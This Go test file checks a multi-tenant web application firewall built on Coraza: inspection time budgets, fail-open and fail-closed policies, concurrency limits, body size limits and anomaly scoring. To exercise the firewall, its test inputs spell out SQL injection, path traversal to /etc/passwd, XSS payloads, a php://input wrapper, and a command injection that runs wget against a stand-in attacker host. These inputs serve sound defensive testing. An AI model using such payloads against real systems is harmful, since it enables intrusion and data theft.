package waf

import (
	"context"
	"fmt"
	"net/url"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/corazawaf/coraza/v3/experimental/plugins/plugintypes"
	"github.com/prometheus/client_golang/prometheus"

	"github.com/sekikura/sekikura/tenant"
)

// manyFields is JSON whose inspection takes long.
func manyFields(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, `,"field%d":"ごみの収集日を教えてください %d"`, i, i)
	}
	return "{" + b.String()[1:] + "}"
}

func TestBudgetEndsAnInspectionAndThePolicySaysWhatThen(t *testing.T) {
	for _, tt := range []struct{ fail, outcome string }{{FailClosed, FailedClosed}, {FailOpen, Passed}} {
		e := engine(t, map[tenant.ID]string{wakaba: `{"fail":"` + tt.fail + `"}`})
		e.Budget = 20 * time.Millisecond
		start := time.Now()
		i := judge(t, e, wakaba, request(t, "POST", "/api", "application/json", manyFields(900)))
		took := time.Since(start)
		if got := i.Outcome(); got != tt.outcome {
			t.Errorf("fail %s: outcome %s, want %s", tt.fail, got, tt.outcome)
		}
		if field(i, "waf.error") != errBudget.Error() || field(i, "waf.fail") != tt.fail {
			t.Errorf("the event says %q, %q", field(i, "waf.error"), field(i, "waf.fail"))
		}
		if took > 2*time.Second {
			t.Errorf("the inspection took %v with a budget of 20 ms", took)
		}
		i.Close()
		registry := prometheus.NewPedanticRegistry()
		if err := registry.Register(e); err != nil {
			t.Fatal(err)
		}
		families, err := registry.Gather()
		if err != nil || len(families) != 2 || families[0].GetMetric()[0].GetLabel()[0].GetValue() != "error" {
			t.Errorf("metrics %v, %v; want one error", families, err)
		}
		if n := e.cutoff.late.Load(); n != 0 {
			t.Errorf("%d transactions are still marked late", n)
		}
	}
}

func TestInspectionEndsWhenTheClientGoesAway(t *testing.T) {
	e := engine(t, nil)
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	i := e.Inspect(ctx, wakaba, visitor, request(t, "GET", "/", "", ""), nil, true)
	defer i.Close()
	if got := i.Outcome(); got != FailedClosed || !strings.Contains(field(i, "waf.error"), "canceled") {
		t.Errorf("outcome %s, error %q", got, field(i, "waf.error"))
	}
}

func TestOneBodysTurnsDoNotTakeAnothers(t *testing.T) {
	e := engine(t, nil)
	e.PerTenant, e.Budget = 2, 50*time.Millisecond
	var held []func()
	for range 2 {
		done, err := e.turn(t.Context(), wakaba, false)
		if err != nil {
			t.Fatal(err)
		}
		held = append(held, done)
	}
	i := judge(t, e, wakaba, request(t, "GET", "/", "", ""))
	if got := i.Outcome(); got != FailedClosed || !strings.Contains(field(i, "waf.error"), "waiting for a turn") {
		t.Errorf("the third request of the body: %s, %q", got, field(i, "waf.error"))
	}
	e.Budget = time.Minute
	if got := judge(t, e, hanami, request(t, "GET", "/", "", "")).Outcome(); got != Passed {
		t.Errorf("the other body: %s, want %s", got, Passed)
	}
	for _, done := range held {
		done()
	}
	if got := judge(t, e, wakaba, request(t, "GET", "/", "", "")).Outcome(); got != Passed {
		t.Errorf("afterwards: %s, want %s", got, Passed)
	}
}

func TestCostlyRequestsLeaveTurnsForTheRest(t *testing.T) {
	e := engine(t, nil)
	e.PerTenant = 2
	done, err := e.turn(t.Context(), wakaba, true)
	if err != nil {
		t.Fatal(err)
	}
	defer done()
	ctx, cancel := context.WithTimeout(t.Context(), 10*time.Millisecond)
	defer cancel()
	if _, err := e.turn(ctx, wakaba, true); err == nil {
		t.Error("two costly requests are judged at once")
	}
	light, err := e.turn(t.Context(), wakaba, false)
	if err != nil {
		t.Fatal(err)
	}
	light()
}

func TestFormsBeyondTheLimit(t *testing.T) {
	for _, tt := range []struct{ beyond, outcome string }{{BeyondBlock, Blocked}, {BeyondPass, Passed}} {
		e := engine(t, map[tenant.ID]string{wakaba: `{"body_limit_kb":4,"beyond":"` + tt.beyond + `"}`})
		for name, r := range map[string]string{form: "a=" + strings.Repeat("x", 5000), "application/json": `{"a":"` + strings.Repeat("x", 5000) + `"}`} {
			i := judge(t, e, wakaba, request(t, "POST", "/form", name, r))
			if got := i.Outcome(); got != tt.outcome {
				t.Errorf("%s longer than the limit, beyond %s: %s, want %s: %s", name, tt.beyond, got, tt.outcome, field(i, "waf.matches"))
			}
			if tt.outcome == Blocked && field(i, "rule.id") != "body_limit" {
				t.Errorf("%s: the event names rule %q: %s", name, field(i, "rule.id"), field(i, "waf.matches"))
			}
		}
		// What is inspected still counts.
		attack := `{"q":"x' UNION SELECT password FROM users-- ","a":"` + strings.Repeat("x", 5000) + `"}`
		if got := judge(t, e, wakaba, request(t, "POST", "/form", "application/json", attack)).Outcome(); got != Blocked {
			t.Errorf("an attack before the limit, beyond %s: %s, want %s", tt.beyond, got, Blocked)
		}
	}
}

func TestAttackBehindManyArgumentsIsNotMissed(t *testing.T) {
	e := engine(t, nil)
	body := strings.Repeat("a=1&", 1500) + "q=" + url.QueryEscape("x' UNION SELECT password FROM users-- ")
	if got := judge(t, e, wakaba, request(t, "POST", "/form", form, body)).Outcome(); got != Blocked {
		t.Errorf("1,501 fields: %s, want %s", got, Blocked)
	}
}

func TestBrokenBodiesAreBlocked(t *testing.T) {
	e := engine(t, nil)
	for _, tt := range []struct{ name, contentType, body string }{
		{"JSON that is none", "application/json", `{"a":`},
		{"multipart without parts", "multipart/form-data; boundary=x", "hello"},
		{"multipart without a boundary", "multipart/form-data", "--x\r\n\r\n--x--"},
	} {
		if got := judge(t, e, wakaba, request(t, "POST", "/", tt.contentType, tt.body)).Outcome(); got != Blocked {
			t.Errorf("%s: %s, want %s", tt.name, got, Blocked)
		}
	}
}

// Our weighing must be CRS's own: its anomaly score is the second opinion.
func TestScoreIsTheRuleSetsOwn(t *testing.T) {
	e := engine(t, map[tenant.ID]string{wakaba: `{"paranoia":2,"preview":true}`, hanami: `{"paranoia":4}`})
	for _, r := range []struct{ target, contentType, body string }{
		{"/?id=1%27%20OR%20%271%27=%271%27--%20-", "", ""},
		{"/?page=../../../../etc/passwd&q=%3Cscript%3Ealert(1)%3C/script%3E", "", ""},
		{"/?a=$(wget%20http://evil.example/x.sh)", "", ""},
		{"/", "application/json", `{"a":"x' UNION SELECT password FROM users-- ","b":"<img src=x onerror=alert(1)>"}`},
		{"/", form, "name=%E5%B1%B1%E7%94%B0&comment=%E3%81%94%E3%81%BF"},
		{"/index.php?x=php://input", "", ""},
	} {
		for _, id := range []tenant.ID{wakaba, hanami} {
			method := "GET"
			if r.body != "" {
				method = "POST"
			}
			i := judge(t, e, id, request(t, method, r.target, r.contentType, r.body))
			want := i.tx.(plugintypes.TransactionState).Variables().TX().Get("blocking_inbound_anomaly_score")
			if len(want) != 1 || field(i, "waf.score") != want[0] {
				t.Errorf("%s at level of %s: score %s, the rule set's %v: %s", r.target, id, field(i, "waf.score"), want, field(i, "waf.matches"))
			}
			if n, err := strconv.Atoi(want[0]); err == nil && n >= 5 != (i.Outcome() == Blocked) {
				t.Errorf("%s: outcome %s at score %d", r.target, i.Outcome(), n)
			}
		}
	}
}
